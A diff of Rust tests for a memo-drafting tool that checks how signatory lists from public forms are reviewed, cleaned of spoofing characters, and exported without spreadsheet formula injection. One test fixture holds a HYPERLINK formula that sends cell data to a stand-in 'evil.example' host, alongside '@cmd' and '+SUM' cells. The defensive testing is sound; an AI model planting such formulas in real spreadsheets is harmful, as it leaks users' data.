@@ -120,8 +120,8 @@ fn a_forms_export_is_merged_with_duplicates_reported_and_accents_kept() {
         .unwrap();
     assert_eq!(
         gafi.status,
-        SignOnStatus::Confirmed,
-        "signing confirms an invitation"
+        SignOnStatus::Received,
+        "a form sent by an invited organization awaits review"
     );
     assert_eq!(
         gafi.signed.map(|d| d.to_string()).as_deref(),
@@ -197,8 +197,9 @@ fn a_google_form_asking_questions_is_read_by_its_question_headers() {
             "<press@borderlands.example.org>"
         ]
     );
+    // "Yes" is what whoever filled in the public form says: received, to be reviewed.
     let gafi = find("Grupo de Análisis Forense Independiente");
-    assert_eq!(gafi.status, SignOnStatus::Confirmed);
+    assert_eq!(gafi.status, SignOnStatus::Received);
     assert_eq!(
         gafi.signed.map(|d| d.to_string()).as_deref(),
         Some("2026-11-25")
@@ -298,6 +299,134 @@ fn export_writes_excel_friendly_csv_and_list_filters_by_status() {
     assert!(stdout.contains("Grupo de Análisis Forense Independiente"));
 }
 
+/// The memo's PDF text without white space (names wrap inside their column).
+fn printed(memo: &Path) -> String {
+    let pdf = memo.with_extension("pdf");
+    let out = memodraft(&["export", s(memo), "-o", s(&pdf)]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let (_, text) = crate::pdf_text(&pdf);
+    text.chars().filter(|c| !c.is_whitespace()).collect()
+}
+
+fn check(memo: &Path) -> String {
+    let out = memodraft(&["check", s(memo)]);
+    String::from_utf8(out.stdout).unwrap()
+}
+
+#[test]
+fn a_public_forms_rows_are_received_and_print_only_once_a_checked_sheet_confirms_them() {
+    let dir = tempfile::tempdir().unwrap();
+    let memo = draft(dir.path());
+    let tejiendo = "ColectivoTejiendoEsperanza,A.C.";
+
+    let stdout = import(&memo, "google-forms-utf8.csv");
+    assert!(
+        stdout.contains(
+            "5 received, awaiting review: they do not print until confirmed (in the editor, or import a checked sheet again with --confirm)"
+        ),
+        "{stdout}"
+    );
+    let report = check(&memo);
+    assert!(
+        report.contains(
+            "warning: \"Colectivo Tejiendo Esperanza, A.C.\" was received through the sign-on form and not reviewed yet; it will not print until someone confirms it"
+        ),
+        "{report}"
+    );
+    assert!(report.contains("5 received, awaiting review"), "{report}");
+    assert!(
+        !printed(&memo).contains(tejiendo),
+        "nothing unreviewed prints"
+    );
+
+    let out = memodraft(&[
+        "signatories",
+        "import",
+        s(&memo),
+        s(&fixture("google-forms-utf8.csv")),
+        "--confirm",
+    ]);
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    assert!(out.status.success(), "{stdout}");
+    assert!(
+        stdout.contains(
+            "row 3: Colectivo Tejiendo Esperanza, A.C.: merged into \"Colectivo Tejiendo Esperanza, A.C.\": now Confirmed (was Received)"
+        ),
+        "{stdout}"
+    );
+    let report = check(&memo);
+    assert!(!report.contains("received"), "{report}");
+    assert!(printed(&memo).contains(tejiendo));
+}
+
+#[test]
+fn spoofed_names_are_cleaned_with_a_line_and_bad_rows_skipped_with_why() {
+    let dir = tempfile::tempdir().unwrap();
+    let memo = draft(dir.path());
+    let stdout = import(&memo, "public-form-hostile.csv");
+    for line in [
+        "row 5: Centro hdorP: added: removed from the organization: U+202E (bidi control)\n",
+        "row 6: Serapaz: added: removed from the organization: U+200D (zero-width); removed from the contact: U+200D (zero-width)\n",
+        "row 7: AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\u{2026}: skipped (the organization name is 301 characters long, more than the 300 a name can be; shorten it in the sheet)\n",
+        "row 8: Colectivo Nube: skipped (\"pedro(at)nube.example.org\" is not an email address; correct it in the sheet)\n",
+        "5 added, 0 merged, 2 skipped",
+    ] {
+        assert!(stdout.contains(line), "{line}: {stdout}");
+    }
+    let list = storage::load_draft(&memo).unwrap().signatories;
+    let serapaz = list.iter().find(|s| s.organization == "Serapaz").unwrap();
+    assert_eq!(serapaz.contacts.first().unwrap().name, "Luis");
+}
+
+#[test]
+fn formulas_from_a_form_are_exported_as_text_and_imported_back_the_same() {
+    let dir = tempfile::tempdir().unwrap();
+    let memo = draft(dir.path());
+    import(&memo, "public-form-hostile.csv");
+    let csv = dir.path().join("list.csv");
+    let out = memodraft(&["signatories", "export", s(&memo), "-o", s(&csv)]);
+    assert!(out.status.success());
+
+    // As a spreadsheet reads the file: no cell starts a formula.
+    let bytes = fs::read(&csv).unwrap();
+    let mut reader = ::csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap());
+    let mut organizations = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in &record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run as a formula"
+            );
+        }
+        organizations.push(record.get(0).unwrap().to_owned());
+    }
+    for name in [
+        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+        "'+SUM(1+1)",
+        "'@cmd",
+    ] {
+        assert!(
+            organizations.iter().any(|o| o == name),
+            "{name}: {organizations:?}"
+        );
+    }
+
+    // Into an empty draft: the same list, those names included.
+    let other = dir.path().join("other.ron");
+    let out = memodraft(&["new", s(&other)]);
+    assert!(out.status.success());
+    let out = memodraft(&["signatories", "import", s(&other), s(&csv)]);
+    assert!(out.status.success());
+    let before = storage::load_draft(&memo).unwrap().signatories;
+    assert_eq!(storage::load_draft(&other).unwrap().signatories, before);
+    assert!(before.iter().any(|s| s.organization == "+SUM(1+1)"));
+}
+
 fn text() -> impl Strategy<Value = String> {
     // Names and places as people type them: letters with accents, digits, punctuation.
     "[A-Za-zÁÉÍÓÚÑáéíóúñü0-9 ,.'&-]{0,24}"
@@ -326,18 +455,41 @@ fn contact() -> impl Strategy<Value = Contact> {
         .prop_filter("someone to write to", |c| !c.is_empty())
 }
 
+/// What a spreadsheet would run as a formula, or skip to find one, at the start of a
+/// cell; and an apostrophe of the text itself.
+fn formula_start() -> impl Strategy<Value = &'static str> {
+    prop::sample::select(vec![
+        "",
+        "",
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t",
+        "\r",
+        "'=",
+        "=HYPERLINK(",
+        "'",
+    ])
+}
+
 fn signatory() -> impl Strategy<Value = Signatory> {
     (
-        "[A-ZÁÉÑ][a-záéíóúñ]{2,10}( [A-Za-záéíóúñ]{2,10}){0,4}",
+        (
+            formula_start(),
+            "[A-ZÁÉÑ][a-záéíóúñ]{2,10}( [A-Za-záéíóúñ]{2,10}){0,4}",
+        )
+            .prop_map(|(start, name)| format!("{start}{name}")),
         text(),
-        text(),
+        (formula_start(), text()).prop_map(|(start, city)| format!("{start}{city}")),
         text(),
         contacts(),
         prop_oneof![
             Just(SignOnStatus::Invited),
             Just(SignOnStatus::Confirmed),
             Just(SignOnStatus::Declined),
-            Just(SignOnStatus::Withdrawn)
+            Just(SignOnStatus::Withdrawn),
+            Just(SignOnStatus::Received)
         ],
         proptest::option::of((2020_i16..2030, 1_i8..=12, 1_i8..=28)),
         any::<bool>(),
@@ -364,7 +516,9 @@ fn signatory() -> impl Strategy<Value = Signatory> {
 proptest! {
     #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
 
-    /// Exporting a list and importing it into an empty draft gives the same list.
+    /// Exporting a list and importing it into an empty draft gives the same list: names
+    /// that start like a formula come back as they were. (A tab or line break at the
+    /// start of a name is white space, which import cleans away as in any cell.)
     #[test]
     fn export_then_import_gives_back_the_same_signatories(list in proptest::collection::vec(signatory(), 0..20)) {
         // Distinct organizations and emails: duplicates would (rightly) merge.
@@ -384,6 +538,15 @@ proptest! {
         let mut back = Vec::new();
         let report = signatories::import_bytes(&mut back, &csv, Path::new("list.csv")).unwrap();
         prop_assert_eq!(report.encoding, "UTF-8 with BOM");
-        prop_assert_eq!(back, list);
+        let clean = |text: &str| memodraft::model::untrusted::clean(text).text;
+        let cleaned: Vec<Signatory> = list
+            .iter()
+            .map(|s| Signatory {
+                organization: clean(&s.organization),
+                city: clean(&s.city),
+                ..s.clone()
+            })
+            .collect();
+        prop_assert_eq!(back, cleaned);
     }
 }
